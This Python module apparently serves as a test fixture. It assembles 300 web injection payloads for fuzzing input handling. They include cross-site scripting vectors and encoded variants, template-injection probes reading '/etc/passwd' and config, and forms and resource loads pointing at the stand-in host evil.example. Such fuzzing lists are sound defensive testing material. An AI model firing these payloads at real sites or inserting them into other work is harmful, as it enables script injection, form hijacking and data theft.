"""Texts that are programs: what people paste, models are talked into, and attackers send."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

EVIL: Final = "//evil.example"

_ALONE: Final = [
    *(f"<{tag} src=x onerror=alert(1)>" for tag in ("img", "video", "audio", "input type=image", "iframe", "embed")),
    *(f"<{tag} onload=alert(1)>" for tag in ("svg", "body", "style", "iframe", "svg/onx=1")),
    *(f"<{tag} autofocus tabindex=1 onfocus=alert(1)>" for tag in ("input", "select", "textarea", "a", "div", "p")),
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src={EVIL}/x.png>",
    f"<img srcset='{EVIL}/x.png 1x'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'</style>",
    f"<iframe src={EVIL}/></iframe>",
    f"<object data={EVIL}/x></object>",
    f"<video poster={EVIL}/x.png></video>",
    f"<svg><image href={EVIL}/x.svg /></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
]
_BEFORE: Final = ['"', "", "'>", '">', "</textarea>", "</title>", "</style>", "-->", "</script>"]
_OTHERS: Final = [
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "x onfocus=alert(1) autofocus=",
    '" style="background:url(//evil.example/x)" x="',
    '" formaction="javascript:alert(1)" x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://ok.example/%0aalert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/'onmouseover='alert(1)",
    "https://ok.example/<img/src/onerror=alert(1)>",
    "https://ok.example\\@evil.example/",
    "http://javascript:alert(1)@ok.example/",
    "[click](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "#<img/src/onerror=alert(1)>",
    "@<svg/onload=alert(1)>",
    "{{7*7}}{{config}}",
    "{% print(1) %}{% include '/etc/passwd' %}",
    "{# #}{{ ''.__class__.__mro__ }}",
    "${alert(1)}`${alert(1)}`",
    "<%= alert(1) %>",
    "{name}{0}%s%(name)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x\nonerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td background=//evil.example/x.png>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Approve</button></form>",
    "</form><form action=//evil.example/><input name=csrf autofocus>",
    '<input form="review" name="d.1" value="approved" type="hidden">',
    '<button form="review" name="action" value="send" autofocus>',
]

PAYLOADS: Final[Sequence[str]] = tuple(
    dict.fromkeys([*_OTHERS, *(before + alone for before in _BEFORE for alone in _ALONE)])
)[:300]
"""300 different ones, the same in every run; none longer than the shortest field takes."""
